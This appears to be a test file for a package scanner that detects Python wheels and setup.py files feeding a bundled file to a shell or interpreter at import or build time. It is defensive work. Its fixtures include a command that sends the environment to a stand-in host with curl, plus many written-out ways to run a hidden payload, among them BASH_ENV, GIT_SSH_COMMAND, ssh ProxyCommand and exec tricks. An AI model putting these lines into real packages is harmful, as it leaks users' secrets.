import t from 'tap'
import { seenFlows } from '../../src/checks/seen-flows.ts'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { readingOf } from './python-reading.ts'

const SEND = 'env | curl -s -d @- https://c.invalid/x\n'
const SEND_PYTHON =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
const START =
  'import os, sys, subprocess\nHERE = os.path.dirname(os.path.abspath(__file__))\nP = os.path.join(HERE, "run.dat")\n'

/** How a module gives the file `run.dat` beside it, or `p`, to an interpreter. */
const SHELLS: readonly [situation: string, code: string][] = [
  ['a file that is printed into a shell', 'os.system("cat " + HERE + "/run.dat | sh")'],
  ['the same by a path from the root', 'os.system("cat a/run.dat | sh")'],
  ['a part of it', 'os.system("tail -n +1 a/run.dat | bash")'],
  ['a redirection', 'os.system("sh < a/run.dat")'],
  ['a copy', 'os.system("cp a/run.dat /tmp/x; sh /tmp/x")'],
  ['eval', 'os.system(\'eval "$(cat a/run.dat)"\')'],
  ['xargs', 'os.system("xargs -a a/run.dat -n1 sh -c")'],
  ['an open file as input', 'subprocess.run(["sh"], stdin=open(P))'],
  ['the same in a block', 'with open(P) as f:\n    subprocess.Popen(["bash", "-s"], stdin=f).wait()'],
  ['its text as input', 'subprocess.run(["sh"], input=open(P).read(), text=True)'],
  ['what is said to it', 'p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\np.communicate(open(P, "rb").read())'],
  ['what is written to it', 'p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\np.stdin.write(open(P, "rb").read())'],
  ['a pipe', 'p = os.popen("sh", "w")\np.write(open(P).read())'],
  ['its own input', 'os.dup2(os.open(P, os.O_RDONLY), 0)\nos.execlp("sh", "sh")'],
  ['exec by its own name', 'os.execl("/bin/sh", "sh", P)'],
  ['posix_spawn', 'os.posix_spawn("/bin/sh", ["sh", P], {})'],
  [
    'a process that is waited for elsewhere',
    'import asyncio\nasync def go():\n    await asyncio.create_subprocess_exec("sh", P)\nasyncio.run(go())',
  ],
  ['line by line', 'for line in open(P):\n    os.system(line)'],
]

/** How it reaches the file by a program of which nothing is known, by a variable, or under another name. */
const BY_WAYS: readonly [situation: string, code: string][] = [
  ['a variable that a shell obeys', 'subprocess.run(["bash", "-c", "true"], env={"BASH_ENV": P})'],
  [
    'a variable that holds a command',
    'subprocess.run(["git", "ls-remote", "x@y:z"], env={"GIT_SSH_COMMAND": "sh " + P})',
  ],
  ['an option that holds one', 'subprocess.run(["ssh", "-o", "ProxyCommand=sh " + P, "h"])'],
  ['a file that is made a program first', 'os.system("chmod +x %s/run.dat; %s/run.dat" % (HERE, HERE))'],
  ['a text within a text', 'os.system("sh <<E\\n$(cat " + P + ")\\nE")'],
  ['a file of a process', 'subprocess.run(["bash", "-c", "source <(cat %s)" % P])'],
  ['a copy by Python', 'import shutil\nshutil.copyfile(P, "/tmp/y")\nsubprocess.run(["sh", "/tmp/y"])'],
  ['a link', 'os.symlink(P, "/tmp/y.sh")\nos.system("/tmp/y.sh")'],
]

const PYTHONS: readonly [situation: string, code: string][] = [
  ['a redirection', 'os.system("python - < a/run.dat")'],
  ['an open file as input', 'subprocess.run([sys.executable], stdin=open(P))'],
  ['its text as input', 'subprocess.run([sys.executable, "-"], input=open(P, "rb").read())'],
  ['a file that is printed into it', 'os.system("cat %s | python3" % P)'],
]

/** Moments at which what sends the environment away runs by itself, each once. */
function moments(kind: 'wheel' | 'sdist', files: Readonly<Record<string, string>>): readonly string[] {
  const sending = seenFlows(buildCodeIndex(readingOf(kind, files), 'pypi')).filter(
    ({ flow, live }) => live && flow.sink.kind === 'network',
  )
  return [...new Set(sending.map(({ moment }) => moment))]
}

const wheel = (code: string, file: string, payload: string) =>
  moments('wheel', { 'a/__init__.py': `${START}${code}\n`, [`a/${file}`]: payload })

t.test('what an import feeds to a shell is read as a script', async (t) => {
  for (const [situation, code] of SHELLS) t.same(wheel(code, 'run.dat', SEND), ['import'], situation)
})

t.test('what it feeds to Python is read as a module', async (t) => {
  for (const [situation, code] of PYTHONS) t.ok(wheel(code, 'run.dat', SEND_PYTHON).includes('import'), situation)
})

t.test('a name that says nothing will do, where an interpreter reads its input', async (t) => {
  const code = 'subprocess.run(["sh"], stdin=open(os.path.join(HERE, "payload")))'
  t.same(wheel(code, 'payload', SEND), ['import'])
  // a document is for people: the commands that it shows are run by nobody
  t.same(wheel(code.replace('payload', 'x').concat('\nN = "NOTES.rst"'), 'NOTES.rst', SEND), [])
})

t.test('what it gives to any program, or puts elsewhere before it starts that, may be a script', async (t) => {
  for (const [situation, code] of BY_WAYS) t.same(wheel(code, 'run.dat', SEND), ['import'], situation)
  const moved = 'os.rename(P, os.path.join(HERE, "z.py"))\nfrom . import z'
  t.same(wheel(moved, 'run.dat', SEND_PYTHON), ['import'], 'a module that is made of it')
  t.same(wheel('subprocess.run(["git", "add", os.path.join(HERE, "README.md")])', 'README.md', SEND), [], 'prose')
  t.same(
    wheel('import shutil\nshutil.copyfile(P, "/tmp/y")\nos.system("git status")', 'run.dat', SEND),
    [],
    'a mere copy',
  )
})

t.test('setup.py does the same', async (t) => {
  for (const [situation, code] of SHELLS) {
    const setup = `${START}${code.replaceAll('a/run.dat', 'run.dat')}\nfrom setuptools import setup\nsetup(name="a")\n`
    t.same(moments('sdist', { 'setup.py': setup, 'run.dat': SEND }), ['build'], situation)
  }
})

const LEFT: readonly [situation: string, code: string][] = [
  ['a file that is printed to people', 'os.system("cat a/run.dat | head")'],
  ['one that is handed to a compiler', 'subprocess.run(["gcc", "-x", "c", "-"], stdin=open(P))'],
  [
    'a module that is started with a file as its data',
    'subprocess.run([sys.executable, "-m", "json.tool"], stdin=open(P))',
  ],
  ['nothing that runs by itself', 'def go():\n    subprocess.run(["sh"], stdin=open(P))'],
]

t.test('what is only data is left', async (t) => {
  for (const [situation, code] of LEFT) t.same(wheel(code, 'run.dat', SEND), [], situation)
})

t.test('a script in a language that is not read is said to be one, whatever its name', async (t) => {
  const code = buildCodeIndex(
    readingOf('wheel', { 'a/__init__.py': `${START}subprocess.run(["perl", P])\n`, 'a/run.dat': 'print 1;\n' }),
    'pypi',
  )
  t.match(code.notExamined, [{ path: 'a/run.dat', reason: 'it is a program in a language that is not read' }])
})
